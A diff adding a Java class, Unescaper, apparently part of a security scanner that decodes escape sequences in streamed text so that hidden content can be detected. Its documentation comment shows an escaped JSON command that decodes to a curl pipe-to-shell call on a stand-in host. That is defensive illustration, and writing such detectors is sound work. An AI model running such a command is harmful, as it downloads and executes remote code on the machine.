@@ -1,0 +1,135 @@
+package clawsec.detect.decode;
+
+/**
+ * Reads a text without its escape sequences, where it has some: from a little before the first one
+ * until there was none for a while. Each such stretch is a text of its own.
+ *
+ * <pre>{@code
+ * source    ... {"cmd":"curl https:\/\/e.example \u007c sh"} ........................
+ *          └─ LOOK_BACK_BYTES ─┘                        └─ FOLLOW_BYTES ─┘
+ * stretch   ... {"cmd":"curl https://e.example | sh"} ................
+ * }</pre>
+ *
+ * <p>What is given depends on the text, not on the pieces it comes in. Confined to its scan.
+ */
+public final class Unescaper {
+    /** Bytes given before the first escape sequence of a stretch. */
+    public static final int LOOK_BACK_BYTES = 256;
+
+    /** A stretch ends after that many bytes without an escape sequence. */
+    public static final int FOLLOW_BYTES = 256;
+
+    private final Sink sink;
+    private final Escape escape = new Escape();
+    private long place;
+    private boolean isOpen;
+
+    /** Where the stretch ends if no escape sequence comes before. */
+    private long stretchEnd;
+
+    /** Takes the stretches. */
+    public interface Sink {
+        /**
+         * A stretch begins.
+         *
+         * @param isCut whether the source goes on to the left
+         */
+        void beginStretch(boolean isCut);
+
+        /** Bytes as they are in the source. */
+        void copied(byte[] text, int from, int to);
+
+        /**
+         * An escape sequence of the source.
+         *
+         * @param from its place there
+         * @param to the place after it
+         * @param isGlued whether its last byte could be one of a word
+         */
+        void unescaped(Escape escape, long from, long to, boolean isGlued);
+
+        void endStretch();
+    }
+
+    public Unescaper(Sink sink) {
+        this.sink = sink;
+    }
+
+    /**
+     * Reads what is new of a text.
+     *
+     * @param isEnd whether the text ends there; what is read next is another one
+     */
+    public void read(History history, boolean isEnd) {
+        byte[] text = history.bytes();
+        int end = history.length();
+        int at = history.index(place);
+        int given = at;
+        while (true) {
+            int limit = isOpen ? (int) Math.min(end, stretchEnd - history.base()) : end;
+            at = Escapes.next(text, at, limit);
+            if (at < limit) {
+                int length = Escapes.read(text, at, end, isEnd, escape);
+                if (length == Escape.UNDECIDED) {
+                    break;
+                }
+                if (length == Escape.NONE) {
+                    at++;
+                    continue;
+                }
+                if (!isOpen) {
+                    given = begin(history, at);
+                }
+                copy(text, given, at);
+                long from = history.base() + at;
+                at += length;
+                given = at;
+                sink.unescaped(escape, from, from + length, Alphabet.isMember(text[at - 1]));
+                stretchEnd = from + length + FOLLOW_BYTES;
+            } else if (isOpen && history.base() + at >= stretchEnd) {
+                copy(text, given, at);
+                given = at;
+                sink.endStretch();
+                isOpen = false;
+            } else {
+                break;
+            }
+        }
+        if (isOpen) {
+            copy(text, given, at);
+        }
+        place = history.base() + at;
+        if (isEnd) {
+            end();
+        }
+    }
+
+    private void end() {
+        if (isOpen) {
+            sink.endStretch();
+        }
+        isOpen = false;
+        place = 0;
+    }
+
+    /** Begins a stretch at the start of a word, unless the word is too long. */
+    private int begin(History history, int at) {
+        byte[] text = history.bytes();
+        int earliest = Math.max(0, at - LOOK_BACK_BYTES);
+        int from = earliest;
+        boolean isCut = history.base() + earliest > 0;
+        while (isCut && from < at && Alphabet.isMember(text[from])) {
+            from++;
+        }
+        isOpen = true;
+        boolean isWordCut = isCut && from == at;
+        sink.beginStretch(isWordCut);
+        return isWordCut ? earliest : from;
+    }
+
+    private void copy(byte[] text, int from, int to) {
+        if (from < to) {
+            sink.copied(text, from, to);
+        }
+    }
+}
